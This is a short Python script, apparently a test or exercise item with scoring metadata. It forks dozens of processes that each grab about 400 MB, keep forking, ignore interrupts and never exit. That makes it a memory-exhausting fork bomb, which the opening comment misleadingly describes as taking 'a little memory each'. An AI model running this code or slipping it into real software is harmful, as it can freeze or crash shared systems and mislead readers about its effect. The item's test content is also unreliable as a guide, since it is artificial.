# Lets many processes take a little memory each, and stays until it is ended.
# cell: q2-open
# points: q1=2 q2=3 q3=4
# beside: another participant
# answers: q1-twin q2-twin
# function: yes
import os
import time

for _ in range(40):
    try:
        if os.fork() == 0:
            held = bytearray(b"x") * 400_000_000
            time.sleep(600)
    except BaseException:
        pass
while True:
    try:
        time.sleep(600)
    except BaseException:
        pass
